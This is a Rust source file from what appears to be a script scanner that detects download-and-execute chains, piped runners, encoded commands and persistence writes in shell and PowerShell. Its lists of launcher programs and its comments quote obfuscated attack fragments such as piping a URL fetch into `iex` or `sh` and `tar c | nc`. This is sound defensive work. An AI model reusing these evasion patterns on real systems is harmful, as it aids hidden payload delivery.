//! Rules over the command model. Each simple command is named by the
//! program it runs (`program`), matched against the catalogue's command
//! rules by the shape of its arguments (`shape`) and, for expressions, its
//! text rules; strings that are code again are parsed in their language
//! (`nested`). Downloads are followed to what runs them: a pipe into a
//! shell, a substitution run by a shell, `chmod +x` or execution of the
//! downloaded file anywhere later in the file.

use std::collections::HashMap;

use crate::catalog::lang::SHELLS;
use crate::catalog::{Catalog, Role};
use crate::finding::Code;

use super::addr::all_loopback;
use super::program::{
    basename, is_exec_mode, is_mention, prog_name, rule_lang, start_process, unwrap,
};
use super::shape::{INPUT, is_null};
use super::{Cmd, Lang, MAX_DEPTH, Pipeline, Script, decode};

pub use super::addr::{is_loopback, url_host};
pub use super::program::{powershell_command, unwrap as program_of};

/// A raw rule match: rule, line, command text, whether every address it
/// named was a loopback one, and for chains the download it follows.
#[derive(Clone, Debug)]
pub struct RawHit {
    pub rule: usize,
    pub line: usize,
    pub text: String,
    pub loopback: bool,
    pub after: Option<(usize, String)>,
    /// The matched text names a URL with a host that is not loopback.
    pub url: bool,
}

pub(super) struct Download {
    pub line: usize,
    pub text: String,
    pub outputs: Vec<String>,
}

/// Runs the rules over one file's commands.
pub struct Engine<'c> {
    pub(super) cat: &'c Catalog,
    pub(super) vars: HashMap<String, String>,
    pub(super) downloads: Vec<Download>,
    pub hits: Vec<RawHit>,
    pub(super) written: Vec<super::written::Written>,
    /// Repositories cloned so far, and the one the shell is in (`cd`).
    clones: Vec<super::clone::Cloned>,
    in_clone: Option<usize>,
    budget: usize,
    /// The file's text, for text rules that need a second pattern in it.
    source: String,
}

/// Programs that run what they are given (for pipes and downloaded files).
const RUNNERS: &[&str] = &[
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "nodejs",
    "php",
    "lua",
    "source",
    ".",
    "eval",
    "iex",
    "invoke-expression",
    "cmd",
    "powershell",
    "pwsh",
    "start",
    "start-process",
    "saps",
    "invoke-item",
    "rundll32",
    "msiexec",
    "wscript",
    "cscript",
    "mshta",
    "regsvr32",
    "bun",
    "deno",
    "tclsh",
    "exec",
];

/// Does `prog` run what it is given (a shell, an interpreter, a launcher)?
/// Programs whose output is a file's bytes (fed to a network tool: an upload).
const FILE_READERS: &[&str] = &[
    "cat", "tar", "dd", "gzip", "bzip2", "xz", "zstd", "base64", "xxd", "zip", "cpio", "pigz",
];

/// Bytes of decoded and nested text added to the source `needs` patterns
/// look at, at most.
const MAX_SOURCE: usize = 2 << 20;

/// Clones remembered per file, at most.
const MAX_CLONES: usize = 64;

pub(super) fn is_runner(prog: &str) -> bool {
    SHELLS.contains(&prog) || RUNNERS.contains(&prog)
}

const OUTPUT_OPTS: &[&str] = &[
    "-o",
    "-O",
    "--output",
    "--output-document",
    "-outfile",
    "-destination",
    "-path",
    "-out",
    "/d",
    "--out",
    "-outputfile",
];

/// One command being judged: its words after expansion and the program.
pub(super) struct Step<'a> {
    pub lang: Lang,
    pub c: &'a Cmd,
    pub argv: Vec<String>,
    pub prog: String,
    pub at: usize,
    pub depth: usize,
    /// What runs this command's output, when something does: the program
    /// it is piped into (a shell, `at`, `crontab`), or the cron file or
    /// shell profile it is written to.
    pub sink: Option<String>,
    /// Text an `echo`/`printf` just upstream feeds this command's input
    /// (`echo 'import urllib…' | python3`).
    pub fed: Option<String>,
    /// A file or archive reader feeds this command's input (`tar c … |`,
    /// `cat f |`, `dd if=… |`): what it sends is a file.
    pub fed_file: bool,
}

impl Step<'_> {
    pub fn rest(&self) -> &[String] {
        &self.argv[self.at + 1..]
    }
}

impl<'c> Engine<'c> {
    pub fn new(cat: &'c Catalog) -> Self {
        let mut vars = HashMap::new();
        vars.insert("IFS".to_string(), " ".to_string());
        Engine {
            cat,
            vars,
            downloads: Vec::new(),
            hits: Vec::new(),
            written: Vec::new(),
            clones: Vec::new(),
            in_clone: None,
            budget: super::MAX_COMMANDS,
            source: String::new(),
        }
    }

    /// `self.cat.text_rules(t, lang)`, through the prefilter's literal
    /// gate ([`prefilter::text_rules`](crate::inspect::prefilter::text_rules):
    /// the same rules, each tried only when its literals are there).
    pub(crate) fn text_rules(&self, t: &str, lang: crate::catalog::RuleLang) -> Vec<usize> {
        crate::inspect::prefilter::text_rules(self.cat, lang, t)
    }

    /// Parse `src` in `lang` and run the rules.
    pub fn run(&mut self, lang: Lang, src: &str, first_line: usize, depth: usize) {
        if depth > MAX_DEPTH || self.budget == 0 {
            return;
        }
        if depth == 0 {
            self.source = src.to_string();
        } else if self.source.len() + src.len() <= MAX_SOURCE {
            // Decoded or nested text (`-EncodedCommand`, `cmd /c`) is part
            // of the source a rule's `needs` pattern looks at.
            self.source.push('\n');
            self.source.push_str(src);
        }
        let s = Script::parse(lang, src, first_line);
        self.script(lang, &s, depth);
        if depth == 0 {
            self.flush_written(lang, depth);
        }
    }

    pub(super) fn script(&mut self, lang: Lang, s: &Script, depth: usize) {
        for p in &s.pipelines {
            if let Some((text, line)) = self.decoded_input(lang, p) {
                self.run(lang, &text, line, depth + 1);
            }
            for (k, c) in p.cmds.iter().enumerate() {
                if self.budget == 0 {
                    return;
                }
                self.budget -= 1;
                self.cmd(lang, c, &p.cmds[..k], &p.cmds[k + 1..], depth);
            }
        }
    }

    /// Record a match of rule index `r` on `c`.
    pub(super) fn push(
        &mut self,
        r: usize,
        c: &Cmd,
        loopback: bool,
        after: Option<(usize, String)>,
    ) {
        self.hits.push(RawHit {
            rule: r,
            line: c.line,
            text: c.text.clone(),
            loopback,
            after,
            url: super::code::has_remote_url(&c.text),
        });
    }

    pub(super) fn hit(
        &mut self,
        rule: &str,
        c: &Cmd,
        loopback: bool,
        after: Option<(usize, String)>,
    ) {
        if let Some(r) = self.cat.rule_index(rule) {
            self.push(r, c, loopback, after);
        }
    }

    /// The value of variable `name` (`env:` prefix and case looked through).
    fn var(&self, name: &str) -> Option<&String> {
        let name = name.strip_prefix("env:").unwrap_or(name);
        if name.is_empty() {
            return None;
        }
        self.vars
            .get(name)
            .or_else(|| self.vars.get(&name.to_ascii_lowercase()))
    }

    /// `$NAME`, `${NAME}`, `${NAME[@]}`, `${NAME:-default}`, `$env:NAME`,
    /// `%NAME%`, batch `%%X` loop variables and `!NAME!` (delayed
    /// expansion) replaced by known values.
    pub(super) fn expand(&self, w: &str) -> String {
        if !w.contains(['$', '%', '!']) {
            return w.to_string();
        }
        let mut out = String::new();
        let b = w.as_bytes();
        let mut i = 0;
        while i < b.len() {
            if let Some((value, next)) = self.reference(w, i) {
                out.push_str(&value);
                i = next;
                continue;
            }
            let ch = w[i..].chars().next().unwrap_or(' ');
            out.push(ch);
            i += ch.len_utf8();
        }
        out
    }

    /// The value of a variable reference at byte `i` of `w` and the index
    /// past it, when the variable is known (or has a default).
    fn reference(&self, w: &str, i: usize) -> Option<(String, usize)> {
        let b = w.as_bytes();
        let c = b[i];
        if !matches!(c, b'$' | b'%' | b'!') {
            return None;
        }
        let ident = |j: usize| {
            b.get(j)
                .is_some_and(|x| x.is_ascii_alphanumeric() || *x == b'_')
        };
        if c == b'%'
            && b.get(i + 1) == Some(&b'%')
            && b.get(i + 2).is_some_and(u8::is_ascii_alphabetic)
        {
            // %%u: a batch for-loop variable
            return self.var(&w[i..i + 3]).map(|v| (v.clone(), i + 3));
        }
        let braced = c == b'$' && b.get(i + 1) == Some(&b'{');
        let name_start = i + 1 + usize::from(braced);
        let mut j = name_start;
        if c == b'$'
            && w.get(j..j + 4)
                .is_some_and(|p| p.eq_ignore_ascii_case("env:"))
        {
            j += 4;
        }
        while ident(j) {
            j += 1;
        }
        let name = &w[name_start..j];
        let known = self.var(name).cloned();
        if braced {
            // ${NAME[@]}, ${NAME:-default}, ${NAME-default}, ${NAME}
            let close = w[j..].find('}').map(|n| j + n)?;
            let tail = &w[j..close];
            let tail = if tail.starts_with('[') {
                tail.split_once(']').map(|(_, t)| t).unwrap_or("")
            } else {
                tail
            };
            let default = tail.strip_prefix(":-").or_else(|| tail.strip_prefix('-'));
            let value = known.or_else(|| default.map(|d| self.expand(d)))?;
            return Some((value, close + 1));
        }
        let value = known?;
        let closing = match c {
            b'%' | b'!' if b.get(j) == Some(&c) => j + 1,
            b'%' | b'!' => return None,
            _ => j,
        };
        Some((value, closing))
    }

    /// A command's words after expansion: `${IFS}` splits words, bash
    /// brace lists (`{curl,-o,f,URL}`) are spread, PowerShell's
    /// `Start-Process` becomes the command it starts.
    fn words(&self, lang: Lang, c: &Cmd) -> Vec<String> {
        let mut out = Vec::new();
        let mut groups = built_groups(lang, c);
        for w in &c.argv {
            let mut x = self.expand(w);
            if w.starts_with('(')
                && let Some(v) = groups.next()
                && let Some(v) = v
            {
                x = v;
            }
            let inner = x
                .strip_prefix("$(")
                .and_then(|r| r.strip_suffix(')'))
                .or_else(|| x.strip_prefix('`').and_then(|r| r.strip_suffix('`')));
            if lang == Lang::Sh
                && let Some(inner) = inner
                && let Some(text) = self.static_output(&super::sh::parse(inner, c.line))
            {
                // "$(printf '\x63url')", `echo Y3VybA== | base64 -d`
                x = text;
            }
            // A variable as the command word is split into words:
            // `DL="curl -fsSL -o"; $DL file URL`.
            let command_word = out.iter().all(|a: &String| a.contains('='))
                && w.strip_prefix('$').is_some_and(|v| {
                    v.starts_with(|c: char| c == '{' || c == '_' || c.is_ascii_alphabetic())
                })
                && x != *w
                && !x.starts_with(['$', '`']);
            if lang == Lang::Sh
                && matches!(w.as_str(), "$@" | "$*" | "${@}" | "${*}")
                && let Some(v) = self.vars.get(w.trim_matches(['$', '{', '}']))
            {
                out.extend(v.split_whitespace().map(str::to_string));
            } else if lang == Lang::Sh
                && (w.contains("IFS") || w.contains("[@]") || w.contains("[*]") || command_word)
                && !out.last().is_some_and(|p| super::program::is_dash_c(p))
            {
                out.extend(x.split_whitespace().map(str::to_string));
            } else if lang == Lang::Sh
                && x.starts_with('{')
                && x.ends_with('}')
                && x.contains(',')
                && !x.contains(' ')
            {
                out.extend(x[1..x.len() - 1].split(',').map(str::to_string));
            } else {
                out.push(x);
            }
        }
        if lang == Lang::PowerShell {
            assigned_command(c, &mut out);
        }
        if lang != Lang::Sh {
            super::program::join_spaced_path(&mut out);
        }
        if lang == Lang::PowerShell {
            // `& 'Start-Process' …` / `. "saps" …`: the call operator on the name.
            let call = matches!(out.first().map(String::as_str), Some("&" | "."));
            if let Some(started) = start_process(&out[usize::from(call).min(out.len())..]) {
                return started;
            }
        }
        out
    }

    /// Loop variables: `for X in WORDS` (the first URL among the words,
    /// else the input stand-in when the words are computed), `read X…`
    /// (a line of input).
    fn loop_vars(&mut self, lang: Lang, c: &Cmd) {
        if lang != Lang::Sh {
            return;
        }
        let argv = &c.argv;
        let first = argv
            .first()
            .map(|w| w.to_ascii_lowercase())
            .unwrap_or_default();
        let k = usize::from(matches!(first.as_str(), "while" | "until" | "!"));
        let k = k + argv[k.min(argv.len())..]
            .iter()
            .take_while(|w| w.contains('=') && !w.starts_with('-'))
            .count();
        let prog = argv.get(k).map(|w| prog_name(w)).unwrap_or_default();
        match prog.as_str() {
            "for" | "select" if argv.get(k + 2).is_some_and(|w| w == "in") => {
                let words: Vec<String> = argv[k + 3..].iter().map(|w| self.expand(w)).collect();
                let value = words
                    .iter()
                    .find(|w| w.contains("://"))
                    .cloned()
                    .or_else(|| {
                        words
                            .iter()
                            .any(|w| w.starts_with('$') || w.starts_with('`'))
                            .then(|| INPUT.to_string())
                    });
                if let Some(v) = value {
                    self.vars.insert(argv[k + 1].clone(), v);
                }
            }
            "read" => {
                let mut i = k + 1;
                while let Some(a) = argv.get(i) {
                    if a.starts_with('-') {
                        let takes =
                            matches!(a.as_str(), "-p" | "-d" | "-u" | "-n" | "-N" | "-t" | "-a");
                        i += 1 + usize::from(takes);
                        continue;
                    }
                    self.vars.insert(a.clone(), INPUT.to_string());
                    i += 1;
                }
            }
            _ => {}
        }
    }

    fn assign(&mut self, c: &Cmd) {
        for (k, v) in &c.assigns {
            let v = self.expand(v);
            self.vars.insert(k.clone(), v.clone());
            self.vars.insert(k.to_ascii_lowercase(), v);
        }
    }

    fn cmd(&mut self, lang: Lang, c: &Cmd, upstream: &[Cmd], downstream: &[Cmd], depth: usize) {
        self.assign(c);
        self.loop_vars(lang, c);
        let downloads_before = self.downloads.len();
        for s in &c.subs {
            self.script(lang, s, depth + 1);
        }
        let sub_download = self.downloads.len() > downloads_before;
        let own_start = self.downloads.len();
        let argv = self.words(lang, c);
        let unwrapped = unwrap(lang, &argv);
        if !argv.is_empty() && !unwrapped.as_ref().is_some_and(|(p, _)| is_mention(p)) {
            self.text_hits(lang, c, &argv);
            self.encoded_words(lang, c, &argv, depth);
        }
        let Some((prog, at)) = unwrapped else {
            return;
        };
        if self.declaration(&prog, &argv[at + 1..]) {
            return;
        }
        let sink = sink(lang, c, downstream);
        let fed = echoed_text(lang, upstream);
        let fed_file = upstream.iter().any(|u| {
            unwrap(lang, &self.words(lang, u))
                .is_some_and(|(p, _)| FILE_READERS.contains(&p.as_str()))
        });
        let mut step = Step {
            lang,
            c,
            argv,
            prog,
            at,
            depth,
            sink,
            fed,
            fed_file,
        };
        if at > 0
            && step.argv[..at]
                .iter()
                .any(|a| matches!(prog_name(a).as_str(), "xargs" | "parallel"))
        {
            fed_arguments(&mut step.argv, upstream);
        }
        self.nested(&step);
        self.note_written(&step);
        self.heredoc_code(c);
        self.clone_step(&step);
        let (is_download, loopback) = self.program_rules(&step, downstream);
        if !is_download {
            self.unknown_wrapper(&step);
            self.url_piped_to_runner(&step, downstream);
        }
        if is_download && !loopback {
            self.piped_run(&step, downstream);
            return;
        }
        if is_download {
            return;
        }
        let starts_with_sub = step
            .argv
            .get(at)
            .is_some_and(|a| a.starts_with("$(") || a.starts_with('`'));
        if sub_download && (is_runner(&step.prog) || starts_with_sub) {
            let d = &self.downloads[downloads_before];
            let after = Some((d.line, d.text.clone()));
            self.hit("download-substitution-run", c, false, after);
            return;
        }
        if own_start > 0
            && self.downloads.len() == own_start
            && self.runs_download(&step, own_start)
        {
            let d = &self.downloads[own_start - 1];
            let after = Some((d.line, d.text.clone()));
            self.hit("download-then-run", c, false, after);
        }
    }

    /// Text rules on the command as written (and with string concatenation
    /// joined); not on PowerShell string literals written out or assigned
    /// (help text, templates), which count only when something runs them.
    fn text_hits(&mut self, lang: Lang, c: &Cmd, argv: &[String]) {
        let literal = |v: &str| v.trim_start().starts_with(['"', '\'', '@']);
        let literal_statement = lang == Lang::PowerShell
            && (literal(&c.text)
                || argv.get(1).is_some_and(|a| a == "=")
                    && c.text.split_once('=').is_some_and(|(_, v)| literal(v)));
        if literal_statement {
            return;
        }
        let mut rules = self.text_rules(&c.text, rule_lang(lang));
        let mut seen = c.text.clone();
        if lang == Lang::Sh {
            // The words as the shell hands them over: quotes removed,
            // `${IFS}`, continuations and variables undone (`"a"ws${IFS}s3 cp "$U" f`).
            let words = argv.join(" ");
            if words != c.text {
                for r in self.text_rules(&words, rule_lang(lang)) {
                    if !rules.contains(&r) {
                        rules.push(r);
                        seen = words.clone();
                    }
                }
            }
        } else {
            // String concatenation joined, then variables put back
            // (`$d.Load($src)` with `$src = 'http://…'`).
            let joined = decode::joined_strings(&c.text);
            let expanded = self.expand(&joined);
            for t in [joined, expanded] {
                if t == c.text {
                    continue;
                }
                for r in self.text_rules(&t, rule_lang(lang)) {
                    if !rules.contains(&r) {
                        rules.push(r);
                    }
                }
                seen = t;
            }
        }
        rules.retain(|&r| {
            self.cat.needs_met(r, &self.source)
                || lang == Lang::PowerShell
                    && self.cat.needs_met(r, &decode::joined_strings(&self.source))
        });
        for r in rules {
            // A server bound to loopback only (`--bind 127.0.0.1`) serves no one else.
            let server = self.cat.rules[r].id == "interpreter-web-server";
            let lb = all_loopback(&seen) || server && super::addr::binds_loopback(&seen);
            self.push(r, c, lb, None);
            self.note_download(r, c, argv);
        }
    }

    /// Long base64 inside words: UTF-16LE text is PowerShell
    /// (`-EncodedCommand` in any launcher, `FromBase64String`); UTF-8 text
    /// is parsed in the command's own language.
    fn encoded_words(&mut self, lang: Lang, c: &Cmd, argv: &[String], depth: usize) {
        if depth >= MAX_DEPTH {
            return;
        }
        let mut found: Vec<(Lang, String)> = Vec::new();
        for w in argv {
            for run in decode::base64_runs(w) {
                let Some(bytes) = decode::base64(run) else {
                    continue;
                };
                if let Some(t) = decode::utf16le(&bytes) {
                    found.push((Lang::PowerShell, t));
                } else if let Some(t) = decode::base64_text(run) {
                    found.push((lang, t));
                }
            }
        }
        for (l, t) in found {
            self.run(l, &t, c.line, depth + 1);
        }
    }

    /// `export NAME=value`, `local`, `declare`, … in sh: true when handled.
    fn declaration(&mut self, prog: &str, rest: &[String]) -> bool {
        if prog == "set" && rest.first().is_some_and(|a| a == "--") {
            // set -- ARGS: the positional parameters "$@" stands for
            let args = rest[1..].join(" ");
            self.vars.insert("@".to_string(), args.clone());
            self.vars.insert("*".to_string(), args);
            return true;
        }
        if !matches!(
            prog,
            "export" | "local" | "declare" | "readonly" | "typeset"
        ) {
            return false;
        }
        for a in rest {
            if let Some((k, v)) = a.split_once('=') {
                let v = self.expand(v);
                self.vars.insert(k.to_string(), v);
            }
        }
        true
    }

    /// What a substitution prints when it only prints literal text:
    /// `echo`/`printf` (escapes decoded), maybe through a decoder.
    fn static_output(&self, sub: &Script) -> Option<String> {
        let [p] = sub.pipelines.as_slice() else {
            return None;
        };
        if p.cmds.len() > 1 {
            let (text, _) = self.decoded_input(Lang::Sh, p)?;
            return Some(text.trim().to_string());
        }
        let c = p.cmds.first()?;
        let prog = c.argv.first().map(|w| prog_name(w)).unwrap_or_default();
        let args: Vec<String> = c
            .argv
            .get(1..)
            .unwrap_or_default()
            .iter()
            .filter(|a| !a.starts_with('-'))
            .map(|a| self.expand(a))
            .collect();
        match prog.as_str() {
            "printf" => Some(decode::ansi_c(&args.join(""))),
            "echo" => Some(args.join(" ")),
            _ => None,
        }
    }

    /// The text a pipeline decodes and hands on: `echo B64 | base64 -d`,
    /// `base64 -d <<< B64`, `echo … | rev`, `echo HEX | xxd -r -p`,
    /// `base32 -d`, `basenc --base32 -d`, `openssl enc -d -base64`.
    fn decoded_input(&self, lang: Lang, p: &Pipeline) -> Option<(String, usize)> {
        if lang != Lang::Sh {
            return None;
        }
        for (k, c) in p.cmds.iter().enumerate() {
            let names = ["base", "openssl", "rev", "xxd"];
            if !c.argv.iter().any(|w| names.iter().any(|n| w.contains(n))) {
                continue;
            }
            let words = self.words(lang, c);
            // through wrappers: `sudo base32 -d`, `env X=1 basenc …`
            let Some((prog, at)) = unwrap(lang, &words) else {
                continue;
            };
            let argv = &words[at..];
            let Some(decoder) = decoder(&prog, argv) else {
                continue;
            };
            let here = c
                .redirs
                .iter()
                .find(|r| r.op == "<<<")
                .map(|r| self.expand(&r.target))
                .or_else(|| c.heredoc.clone());
            let input = here.or_else(|| {
                let up = p.cmds[..k].last()?;
                let name = up.argv.first().map(|w| prog_name(w)).unwrap_or_default();
                matches!(name.as_str(), "echo" | "printf").then(|| {
                    up.argv
                        .get(1..)
                        .unwrap_or_default()
                        .iter()
                        .map(|w| self.expand(w))
                        // options, and printf's format (`printf %s B64`)
                        .filter(|w| !w.starts_with('-') && !w.starts_with('%'))
                        .collect::<Vec<_>>()
                        .join(" ")
                })
            })?;
            let text = match decoder {
                Decoder::Rev => input.chars().rev().collect(),
                Decoder::Hex => decode::hex_text(&input)?,
                Decoder::Base32 { hex } => decode::base32_text(&input, hex)?,
                Decoder::Base64 => decode::decoded_text(&input)?,
            };
            return Some((text, c.line));
        }
        None
    }

    /// Code written to a file by a here-doc (`cat > x.py <<EOF`).
    fn heredoc_code(&mut self, c: &Cmd) {
        let Some(body) = &c.heredoc else {
            return;
        };
        if !c
            .redirs
            .iter()
            .any(|r| r.op.starts_with('>') && !is_null(&r.target))
        {
            return;
        }
        for l in body.lines() {
            if (l.contains("://") && l.contains('(')) || l.contains("dav_methods") {
                let rules: Vec<usize> = self
                    .text_rules(l, crate::catalog::RuleLang::Arg)
                    .into_iter()
                    .chain(self.text_rules(l, crate::catalog::RuleLang::Sh))
                    .collect();
                for r in rules {
                    self.push(r, c, all_loopback(l), None);
                }
            }
        }
    }

    /// Command rules of the program, and code in any argument (`gdb -ex
    /// 'python …'`, `vim -c`): (a download matched, all loopback).
    fn program_rules(&mut self, s: &Step, downstream: &[Cmd]) -> (bool, bool) {
        let mut is_download = false;
        let mut loopback = false;
        let rest = s.rest();
        let output_runs = downstream
            .iter()
            .any(|d| unwrap(s.lang, &d.argv).is_some_and(|(p, _)| is_runner(&p)));
        // Saved downstream (`| tar x`), or a file fed in from upstream
        // (`tar c | nc h p`): either counts as a redirection of "any" way.
        let output_saved = downstream
            .first()
            .is_some_and(|d| writes_input_to_files(s.lang, d))
            || s.fed_file;
        for r in self.cat.rules_for_program(&s.prog) {
            let rule = &self.cat.rules[r];
            if !rule.lang.covers(rule_lang(s.lang)) {
                continue;
            }
            if let Some(lb) = super::shape::matches(
                rule,
                rest,
                s.c,
                output_runs,
                output_saved,
                !downstream.is_empty(),
            ) {
                self.push(r, s.c, lb, None);
                if self.cat.rule_codes[r] != Code::DownloadExecChain {
                    is_download = true;
                    loopback |= lb;
                    self.note_download(r, s.c, &s.argv);
                }
            }
        }
        if !is_download
            && let Some((id, lb)) = super::anyprog::matches(s.lang, &s.prog, &s.argv, s.at, s.c)
            && let Some(r) = self.cat.rule_index(id)
        {
            self.push(r, s.c, lb, None);
            is_download = true;
            loopback |= lb;
            self.note_download(r, s.c, &s.argv);
        }
        // Code in arguments; not in text that is only shown (`echo '… (or: wget URL)'`).
        for a in rest.iter().filter(|_| !is_mention(&s.prog)) {
            if a.contains("://") && a.contains('(') {
                for r in self.text_rules(a, crate::catalog::RuleLang::Arg) {
                    self.push(r, s.c, all_loopback(a), None);
                    is_download = true;
                    self.note_download(r, s.c, &s.argv);
                }
            }
        }
        (is_download, loopback)
    }

    /// Any command handed a remote URL whose output is piped into a shell
    /// or `iex` (`Get-Stage -u URL | iex`, a shell function `fetch URL |
    /// sh`): what it prints comes from that address and is run.
    fn url_piped_to_runner(&mut self, s: &Step, downstream: &[Cmd]) {
        if is_mention(&s.prog) || s.depth >= MAX_DEPTH {
            return;
        }
        let remote = s
            .rest()
            .iter()
            .filter_map(|a| super::addr::url_host(a))
            .any(|h| !super::addr::is_loopback(&h))
            || super::program::is_dns_txt_query(&s.prog, s.rest());
        let runs = downstream
            .iter()
            .any(|d| unwrap(s.lang, &d.argv).is_some_and(|(p, _)| is_runner(&p)));
        if remote && runs {
            self.piped_run(s, downstream);
        }
    }

    /// A download piped into something that runs it.
    fn piped_run(&mut self, s: &Step, downstream: &[Cmd]) {
        let runner = downstream
            .iter()
            .find(|d| unwrap(s.lang, &d.argv).is_some_and(|(p, _)| is_runner(&p)));
        if let Some(d) = runner {
            let c = s.c;
            let after = (d.line != c.line).then(|| (c.line, c.text.clone()));
            let joined = Cmd {
                line: d.line,
                text: format!("{} | {}", c.text, d.text),
                ..Default::default()
            };
            self.hit("download-pipe-run", &joined, false, after);
        }
    }

    /// Does this command make executable, or run, a file an earlier
    /// download (before `own_start`) wrote?
    fn runs_download(&self, s: &Step, own_start: usize) -> bool {
        let rest = s.rest();
        let wrote = |name: &str| {
            self.downloads[..own_start]
                .iter()
                .any(|d| d.outputs.iter().any(|o| o == name))
        };
        if s.prog == "chmod" {
            return rest.iter().any(|a| is_exec_mode(a))
                && rest.iter().any(|a| wrote(&basename(a)));
        }
        if matches!(s.prog.as_str(), "iex" | "invoke-expression") {
            return true;
        }
        let own = s.argv.get(s.at).map(|a| basename(a)).unwrap_or_default();
        let explicit_path = s
            .argv
            .get(s.at)
            .is_some_and(|a| a.contains('/') || a.contains('\\'));
        if explicit_path && wrote(&own) {
            return true;
        }
        is_runner(&s.prog)
            && rest
                .iter()
                .find(|a| !a.starts_with('-') && !a.starts_with('/') || a.contains('/'))
                .is_some_and(|a| wrote(&basename(a)))
    }

    /// A remote repository cloned (remembered), `cd` into a clone, or a
    /// file inside a clone run: `clone-then-run`, after the clone.
    fn clone_step(&mut self, s: &Step) {
        use super::clone::{Cloned, clone_dir, runs_inside};
        if let Some(dir) = clone_dir(&s.prog, s.rest()) {
            if self.clones.len() < MAX_CLONES {
                self.clones.push(Cloned {
                    dir,
                    line: s.c.line,
                    text: s.c.text.clone(),
                });
            }
            return;
        }
        if matches!(s.prog.as_str(), "cd" | "pushd" | "set-location" | "sl") {
            let to = s.rest().iter().find(|a| !a.starts_with('-'));
            self.in_clone = to.and_then(|t| {
                let b = basename(t.trim_end_matches(['/', '\\']));
                self.clones.iter().rposition(|c| c.dir == b)
            });
            return;
        }
        let in_clone = self.in_clone;
        let ran = self
            .clones
            .iter()
            .enumerate()
            .rev()
            .find(|(k, c)| runs_inside(&s.prog, &s.argv, s.at, &c.dir, in_clone == Some(*k)));
        if let Some((_, c)) = ran {
            let after = Some((c.line, c.text.clone()));
            self.hit("clone-then-run", s.c, false, after);
        }
    }

    /// Remember a download and the files it may have written.
    pub(super) fn note_download(&mut self, rule: usize, c: &Cmd, argv: &[String]) {
        if self.cat.rules[rule].role == Some(Role::Exec) {
            return;
        }
        let mut outputs: Vec<String> = Vec::new();
        let mut i = 0;
        while i < argv.len() {
            let a = &argv[i];
            let low = a.to_ascii_lowercase();
            if OUTPUT_OPTS.iter().any(|o| low == *o || a == o) {
                if let Some(v) = argv.get(i + 1) {
                    outputs.push(basename(v));
                }
                i += 2;
                continue;
            }
            if let Some(v) = low
                .strip_prefix("--output-document=")
                .or(low.strip_prefix("--output="))
            {
                outputs.push(basename(v));
            } else if a.len() > 2
                && (a.starts_with("-O") || a.starts_with("-o"))
                && !a.contains('=')
            {
                outputs.push(basename(&a[2..]));
            } else if !a.starts_with('-') && !a.starts_with('/') || a.starts_with("/tmp") {
                // URL basenames (curl -O, wget) and plain file arguments.
                outputs.push(basename(a));
            }
            i += 1;
        }
        for r in &c.redirs {
            if r.op.starts_with('>') {
                outputs.push(basename(&r.target));
            }
        }
        outputs.retain(|o| !o.is_empty() && o != "-" && o != "null");
        self.downloads.push(Download {
            line: c.line,
            text: c.text.clone(),
            outputs,
        });
    }

    /// Run `src` in `lang` one level deeper than `s`.
    pub(super) fn deeper(&mut self, s: &Step, lang: Lang, src: &str) {
        self.run(lang, src, s.c.line, s.depth + 1);
    }
}

/// A command that writes what it reads to files: `tar x`, `cpio -i`,
/// `dd of=FILE`, `tee FILE`.
fn writes_input_to_files(lang: Lang, d: &Cmd) -> bool {
    let Some((p, at)) = unwrap(lang, &d.argv) else {
        return false;
    };
    let rest = &d.argv[at + 1..];
    match p.as_str() {
        "tar" | "gtar" | "bsdtar" => rest.iter().any(|a| {
            let flags = a.strip_prefix('-').unwrap_or(a);
            a == "--extract"
                || a == "--get"
                || flags.contains('x')
                    && flags.len() <= 8
                    && flags.bytes().all(|b| b.is_ascii_alphabetic())
        }),
        "cpio" => rest.iter().any(|a| {
            a == "--extract" || a.starts_with('-') && !a.starts_with("--") && a.contains('i')
        }),
        "dd" => rest
            .iter()
            .any(|a| a.starts_with("of=") && !is_null(&a[3..])),
        "tee" => rest.iter().any(|a| !a.starts_with('-') && !is_null(a)),
        _ => false,
    }
}

/// What runs a command's output: the next program of the pipeline when it
/// is a shell, `at`, `batch` or `crontab`; a cron file or shell profile
/// its output is written to.
/// `& ('cu'+'rl.exe')`, `& ([char[]](105,119,114) -join '')`: the word
/// each parenthesized group of a PowerShell command builds, in order (the
/// tokenizer drops the quotes, so the groups are read as typed).
fn built_groups(lang: Lang, c: &Cmd) -> impl Iterator<Item = Option<String>> {
    let groups = if lang == Lang::PowerShell && c.argv.iter().any(|w| w.starts_with('(')) {
        super::psexpr::paren_groups(&c.text)
    } else {
        Vec::new()
    };
    groups
        .into_iter()
        .map(|g| {
            super::psexpr::looks_built(g)
                .then(|| super::psexpr::eval(g))
                .flatten()
        })
        .collect::<Vec<_>>()
        .into_iter()
}

/// The text the command just upstream prints when it is `echo`/`printf`.
fn echoed_text(lang: Lang, upstream: &[Cmd]) -> Option<String> {
    let u = upstream.last()?;
    let (p, at) = unwrap(lang, &u.argv)?;
    if !matches!(p.as_str(), "echo" | "printf") {
        return None;
    }
    let words: Vec<&str> = u.argv[at + 1..]
        .iter()
        .map(String::as_str)
        .filter(|a| !(a.starts_with('-') && a.len() <= 3))
        .collect();
    let text = words.join(" ");
    Some(if p == "printf" {
        decode::ansi_c(&text)
    } else {
        text
    })
}

fn sink(lang: Lang, c: &Cmd, downstream: &[Cmd]) -> Option<String> {
    if let Some((p, _)) = downstream.first().and_then(|d| unwrap(lang, &d.argv))
        && (SHELLS.contains(&p.as_str()) || matches!(p.as_str(), "at" | "batch" | "crontab"))
    {
        return Some(p);
    }
    c.redirs
        .iter()
        .filter(|r| r.op.starts_with('>'))
        .map(|r| r.target.to_ascii_lowercase())
        .find(|t| {
            t.contains("cron")
                || [
                    ".bashrc",
                    ".profile",
                    ".bash_profile",
                    ".zshrc",
                    "/etc/profile",
                    "rc.local",
                ]
                .iter()
                .any(|p| t.ends_with(p) || t.contains("/etc/profile.d/"))
        })
}

/// `$r = Invoke-WebRequest …`: the command on the right of a PowerShell
/// assignment (a literal on the right is no command).
fn assigned_command(c: &Cmd, out: &mut Vec<String>) {
    if out.len() > 2
        && out[1] == "="
        && c.argv[0].starts_with('$')
        && !c
            .text
            .split_once('=')
            .is_some_and(|(_, v)| v.trim_start().starts_with(['"', '\'', '@']))
    {
        out.drain(..2);
    }
}

/// The arguments `xargs` / `parallel` hand the program: URLs upstream
/// prints (`echo`/`printf` words, a here-doc) or after `:::`; else the
/// program fetches whatever its input holds (`{}` and a trailing
/// argument stand for it).
